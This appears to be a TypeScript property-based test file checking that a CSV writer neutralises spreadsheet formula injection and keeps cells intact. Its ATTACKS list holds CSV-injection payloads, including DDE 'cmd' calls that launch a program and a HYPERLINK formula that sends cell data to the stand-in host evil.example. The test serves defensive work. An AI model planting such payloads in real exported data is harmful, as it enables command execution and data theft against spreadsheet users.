// Whatever stands in a cell, a spreadsheet does not take it for a formula, and a reader of CSV finds it in its place.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { csvCell, csvLine, type CsvValue } from '../../src/api/csv.ts';

/** A reader by RFC 4180, written apart from the writer; also for programs that split at another separator. */
function readLine(line: string, separator = ','): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i += 1) {
    const char = line[i] ?? '';
    if (quoted && char === '"' && line[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (quoted && char === '"') quoted = false;
    else if (quoted) cell += char;
    else if (char === '"' && cell === '') quoted = true;
    else if (char === separator) {
      cells.push(cell);
      cell = '';
    } else if (char !== '\r' && char !== '\n') cell += char;
  }
  return [...cells, cell];
}

/** What spreadsheets evaluate at the beginning of a cell, blanks in front or not. */
const FORMULA = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
const NUMBER = /^-?\d+(\.\d+)?$/;
const ATTACKS = [
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFF1D1+1',
  'a;=1+1',
  'a,=1+1',
  '";=1+1',
  'a"=1+1',
  'a\n=1+1',
  'a;  -1+1',
  ';=1;=2;=3',
  '\u2028=1',
  '-',
  '=',
];

const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.constantFrom(...ATTACKS),
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', ';', ',', '"', "'", '\t', '\r', '\n', ' ', '1', 'a', '|') }),
);
const value: fc.Arbitrary<CsvValue> = fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null));

describe('a cell', () => {
  test('never begins as a formula, in whatever program it is opened', () => {
    fc.assert(
      // Our files begin each line with an instant or a word, so that no number of ours begins one.
      fc.property(text, fc.array(value, { maxLength: 6 }), (first, values) => {
        const line = csvLine([`2026 ${first}`, ...values]);
        const alone = readLine(csvLine([first]))[0] ?? '';
        assert.ok(!FORMULA.test(alone) || NUMBER.test(alone), JSON.stringify(alone));
        assert.ok(line.endsWith('\r\n') && !/[\r\n]/.test(line.slice(0, -2)), 'a row is one line');
        for (const separator of [',', ';', '|', '\t']) {
          for (const cell of readLine(line, separator))
            assert.ok(
              !FORMULA.test(cell) || NUMBER.test(cell),
              `${JSON.stringify(line)} holds ${JSON.stringify(cell)}`,
            );
        }
      }),
      { numRuns: 5_000 },
    );
  });

  test('comes back in its place, and as it was where nothing in it is dangerous', () => {
    const harmless = fc.string({ unit: fc.constantFrom('a', 'Z', '9', ' ', '.', '/', '"', ',', ';', 'é', '北', "'") });
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 1, maxLength: 6 }), (values) => {
        assert.deepEqual(readLine(csvLine(values)), values);
      }),
    );
  });

  test('says what it is: a bare number, yes or no, nothing, else quoted text', () => {
    assert.equal(csvCell(-12.5), '-12.5');
    assert.equal(csvCell('0.000498000001'), '0.000498000001');
    assert.equal(csvCell(true), 'yes');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell('a "b"'), '"a ""b"""');
    assert.equal(csvCell('=1+1'), `"'=1+1"`);
    assert.equal(csvCell('1e5'), '"1e5"');
    assert.equal(csvCell('a\r\nb'), '"a  b"');
  });
});
